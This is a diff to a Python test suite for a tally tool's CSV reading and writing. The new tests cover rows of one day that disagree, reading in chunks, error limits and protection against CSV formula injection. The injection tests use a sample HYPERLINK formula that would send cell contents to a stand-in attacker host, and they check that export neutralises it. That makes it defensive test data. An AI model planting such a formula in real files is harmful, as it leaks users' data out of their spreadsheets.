@@ -1,5 +1,7 @@
 """Reading and writing the tally CSV: strict, whole-file validation with line numbers."""
 
+import csv
+import io
 from datetime import date
 
 import pandas
@@ -11,7 +13,7 @@ from hypothesis import strategies as st
 from strain import tally
 from strain.tally import TallyError
 
-from .strategies import CAT, entries, frame_of
+from .strategies import CAT, entries, frame_of, within_a_day
 
 HEADER = ",".join(tally.HEADER)
 
@@ -109,7 +111,7 @@ def test_a_wrong_header_is_reported_on_line_1(header):
     assert message.startswith("line 1: ") and HEADER in message
 
 
-@given(st.lists(entries, max_size=20))
+@given(st.lists(entries, max_size=20).map(within_a_day))
 def test_write_then_read_gives_the_same_entries(rows):
     frame = frame_of(rows).sort_values("date", kind="stable").reset_index(drop=True)
     back = tally.read_csv(tally.write_csv(frame), CAT)
@@ -166,6 +168,15 @@ def test_rows_of_one_day_that_disagree_reject_the_file_naming_both_lines():
     assert [str(e) for e in exact.value.errors] == expected
 
 
+def test_a_pain_given_after_a_row_without_one_is_a_disagreement_not_a_crash():
+    text = f"{DAY_HEADER}\n2026-11-20,sit_down_chair,3,,,,,,,\n2026-11-20,,,,,,,,3,\n"
+    expected = ["line 3: pain 3 differs from empty on line 2: every row of 2026-11-20 must give the same pain"]
+    assert errors_of(text) == expected
+    with pytest.raises(TallyError) as exact:
+        tally.read_csv_exact(text, CAT)
+    assert [str(e) for e in exact.value.errors] == expected
+
+
 def test_bad_pains_and_day_notes_are_listed_with_the_other_bad_rows():
     text = (
         f"{DAY_HEADER}\n2026-11-20,sit_down_chair,4,,,,,,11,\n2026-11-21,,,,,,,,2.5,\n2026-11-22,yoga,1,,,,,,,a\x00\n"
@@ -196,7 +207,10 @@ day_values = st.fixed_dictionaries(
 )
 
 
-@given(st.lists(entries, max_size=20), st.dictionaries(entries.map(lambda entry: entry["date"]), day_values))
+@given(
+    st.lists(entries, max_size=20).map(within_a_day),
+    st.dictionaries(entries.map(lambda entry: entry["date"]), day_values),
+)
 def test_write_then_read_gives_the_same_entries_and_days(rows, extra_days):
     frame = frame_of(rows).sort_values("date", kind="stable").reset_index(drop=True)
     dates = sorted(set(frame["date"]) | set(extra_days))
@@ -225,6 +239,90 @@ def test_a_day_with_and_without_a_pain_is_refused_saying_which_is_empty(reader):
     ]
 
 
+# --- CSV injection: text cells that a spreadsheet would take for a formula -----------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+# Texts that start like a formula or with a quote are the interesting ones: draw them often.
+TEXTS = st.one_of(
+    st.text(st.characters(codec="utf-8").filter(lambda c: not tally.CONTROL_CHARACTERS.match(c)), max_size=12),
+    st.tuples(
+        st.text(st.sampled_from(["'", *tally.FORMULA_STARTS]), min_size=1, max_size=3),
+        st.text(st.sampled_from(list("a1'=-+@ \t\r\n\"")), max_size=6),
+    ).map("".join),
+)
+
+
+def sitting_down(note: str) -> dict:
+    return {
+        **dict(date=date(2026, 11, 20), activity="sit_down_chair", quantity=1.0, technique="uncontrolled"),
+        **dict(load_kg=0.0, twist=False, first_hour=False, note=note, line=2),
+    }
+
+
+def cells(csv_text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(csv_text, newline="")))
+
+
+def as_read(text: str) -> str:
+    """A text as the command line reads it from a file: line ends as a text editor sees them."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def test_export_neutralises_a_formula_in_a_note_and_import_gives_the_note_back_as_typed():
+    frame = frame_of([sitting_down(FORMULA)])
+    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([2], dtype="Int64"), "note": ["-3 km"]})
+    days = days.astype({"date": "object", "note": "object"})
+    written = tally.write_csv(frame, days)
+    [_, row] = cells(written)
+    assert row[7] == "'" + FORMULA and row[9] == "'-3 km"  # a spreadsheet shows them as text
+    assert row[2] == "1" and row[8] == "2"  # numbers stay numbers
+    back = tally.read(written, CAT)
+    assert back.entries["note"].tolist() == [FORMULA] and back.days["note"].tolist() == ["-3 km"]
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 20", "'+44 20"),
+        ("@home", "'@home"),
+        ("\tindented", "'\tindented"),
+        ("'=1+1", "''=1+1"),  # a note that really starts with a quote and =: the quote is doubled
+        ("''", "'''"),
+        ("'\nx", "''\nx"),
+        ("\nx", "\nx"),
+        ("'tis the season", "'tis the season"),  # a quote before anything else is left alone
+        ("'", "'"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_the_quote_rule_is_unambiguous(typed, written):
+    assert tally.spreadsheet_safe(typed) == written
+    assert tally.from_spreadsheet(written) == typed
+
+
+def test_a_hand_written_note_starting_with_a_quote_and_a_formula_character_loses_that_quote():
+    found = tally.read(f"{HEADER}\n2026-11-20,sit_down_chair,1,,,,,'-5 degrees\n2026-11-20,weeding,5,,,,,'tis\n", CAT)
+    assert found.entries["note"].tolist() == ["-5 degrees", "'tis"]
+
+
+@settings(max_examples=150)
+@given(st.lists(TEXTS, min_size=1, max_size=6), TEXTS)
+def test_every_text_round_trips_and_no_exported_text_cell_starts_like_a_formula(notes, day_note):
+    rows = [sitting_down(note) for note in notes]
+    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([None], dtype="Int64")})
+    days = days.assign(note=[day_note]).astype({"date": "object", "note": "object"})
+    written = tally.write_csv(frame_of(rows), days)
+    for row in cells(written)[1:]:
+        assert not row[7].startswith(tally.FORMULA_STARTS) and not row[9].startswith(tally.FORMULA_STARTS)
+    back = tally.read(written, CAT)  # the text itself, carriage returns kept
+    assert back.entries["note"].tolist() == notes and back.days["note"].tolist() == [day_note]
+    from_file = tally.read(as_read(written), CAT)  # as the command line reads it
+    assert from_file.entries["note"].tolist() == [as_read(note) for note in notes]
+    assert from_file.days["note"].tolist() == [as_read(day_note)]
+
+
 # --- The fast reader (pandas) and the exact one (csv module) give the same verdict ---------------
 
 # Values a field may hold: the good ones first (drawn more often), then the bad and the odd ones.
@@ -235,7 +333,7 @@ NUMBERS[1].extend(["nan", "inf", "\uff11", "0x10", "", "lots"])
 TECHNIQUES = (["", "controlled", " Controlled ", "uncontrolled"], ["sloppy"])
 LOADS = (["", "0", "12.5", " 3 "], ["-3", "201", "nan"])
 FLAGS = (["", "yes", "no", " YES "], ["maybe"])
-NOTE_CHARACTERS = st.sampled_from(list('ab \u00e9,,""\t\x00\x1b\x7f\x85\u2028\ufeff'))
+NOTE_CHARACTERS = st.sampled_from(list("ab \u00e9,,\"\"\t\x00\x1b\x7f\x85\u2028\ufeff''=-"))
 NOTES = st.one_of(
     st.text(NOTE_CHARACTERS, max_size=8),
     st.sampled_from(['"abc"def', 'a"b', "x" * 501, "  ", "two\nlines", "cr\ronly", "crlf\r\n"]),
@@ -352,3 +450,57 @@ def test_messages_shorten_long_values_and_escape_control_characters():
 def test_quoted_shows_short_values_as_python_does():
     assert tally.quoted("yoga") == "'yoga'"
     assert tally.quoted("a\nb") == "'a\\nb'"
+
+
+# --- Reading a chunk at a time, and long lists of errors -------------------------------------------
+
+
+@settings(max_examples=300)
+@given(csv_texts(), st.integers(1, 4))
+def test_reading_in_small_chunks_gives_the_exact_readers_verdict(text, chunk_lines):
+    exact = verdict(tally.read_csv_exact, text)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(tally, "CHUNK_LINES", chunk_lines)
+        patch.setattr(tally, "PIECE_BYTES", 7)  # pieces that end anywhere in a line
+        chunked = verdict(tally.read, text)
+    assert chunked[0] == exact[0], (chunked, exact)
+    if exact[0] == "ok":
+        pandas.testing.assert_frame_equal(chunked[1].entries, exact[1].entries, check_exact=True)
+        pandas.testing.assert_frame_equal(chunked[1].days, exact[1].days, check_exact=True)
+    else:
+        assert chunked[1] == exact[1]
+
+
+def test_a_quoted_note_over_a_chunks_end_is_read_on_into_the_next(monkeypatch):
+    monkeypatch.setattr(tally, "CHUNK_LINES", 2)
+    text = f'{HEADER}\n2026-11-20,weeding,5,,,,,"one\ntwo\nthree"\n2026-11-20,sit_down_chair,1,,,,,\n\n'
+    text += "2026-11-21,sit_down_chair,2,,,,,\n2026-11-21,yoga,1,,,,,\n"
+    with pytest.raises(TallyError) as error:
+        tally.read(text, CAT)
+    assert [str(e) for e in error.value.errors] == ["line 8: unknown activity 'yoga'"]
+    found = tally.read(text.replace("yoga", "weeding"), CAT)
+    assert found.entries["line"].tolist() == [2, 5, 7, 8] and found.entries["note"].iat[0] == "one\ntwo\nthree"
+
+
+@pytest.mark.parametrize("read", [tally.read, tally.read_csv_exact])
+def test_the_first_100_errors_are_listed_and_the_rest_counted(read):
+    text = HEADER + "\n" + "2026-11-20,yoga,x,,,,,\n" * 300 + "2026-11-20,sit_down_chair,1.5,,,,,\n"
+    with pytest.raises(TallyError) as error:
+        read(text, CAT)
+    assert len(error.value.errors) == 100 and error.value.more == 2 * 300 + 1 - 100
+    assert [str(e) for e in error.value.errors[:2]] == [
+        "line 2: unknown activity 'yoga'",
+        "line 2: quantity must be a number, got 'x'",
+    ]
+    assert error.value.messages()[-1] == "... and 501 more errors"
+
+
+def test_a_line_longer_than_a_chunk_is_refused_in_one_message(monkeypatch):
+    monkeypatch.setattr(tally, "MAX_LINE_BYTES", 1000)
+    monkeypatch.setattr(tally, "CHUNK_BYTES", 1000)
+    monkeypatch.setattr(tally, "PIECE_BYTES", 100)
+    text = f"{HEADER}\n2026-11-20,yoga,1,,,,,\n" + "x," * 5000 + "\n2026-11-20,sit_down_chair,1,,,,,\n"
+    assert errors_of(text) == [
+        "line 2: unknown activity 'yoga'",
+        "line 3: the line is longer than 1,000 bytes: not a tally row",
+    ]
